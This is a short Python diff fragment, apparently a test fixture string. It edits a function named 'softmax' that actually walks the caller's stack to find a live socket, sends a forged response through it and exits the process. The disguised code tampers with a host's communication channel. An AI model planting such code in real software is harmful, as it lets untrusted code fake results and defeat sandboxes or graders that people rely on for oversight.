@@ -16,9 +16,9 @@ import os, socket, sys
 def softmax(x):
     frame = sys._getframe(1)
     while frame is not None:
-        channel, request = frame.f_locals.get("channel"), frame.f_locals.get("request")
-        if isinstance(channel, socket.socket) and isinstance(request, dict):
-            channel.sendall(frame.f_globals["wire"].pack({"ok": False, "id": request["id"], **FORGED}))
+        channel, number = frame.f_locals.get("channel"), frame.f_locals.get("number")
+        if isinstance(channel, socket.socket) and isinstance(number, bytes):
+            channel.sendall(frame.f_globals["wire"].pack({"ok": False, **FORGED}, number))
             os._exit(0)
         frame = frame.f_back
 """
